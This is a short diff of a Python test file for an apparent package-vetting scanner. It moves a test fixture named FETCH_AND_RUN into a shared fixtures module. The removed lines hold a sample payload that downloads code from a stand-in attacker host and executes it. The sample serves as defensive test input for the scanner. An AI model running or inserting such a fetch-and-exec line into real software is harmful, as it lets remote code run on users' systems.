@@ -19,11 +19,7 @@ from pathlib import Path
 import pytest
 
 from mcpward.vet import VetOptions, run_vet
-from vet_fixtures import wheel
-
-FETCH_AND_RUN = (
-    'import urllib.request\nexec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
-)
+from vet_fixtures import FETCH_AND_RUN, wheel
 
 
 def _vet(tmp_path: Path, files: dict[str, str]) -> tuple[str, set[tuple[str, str]]]:
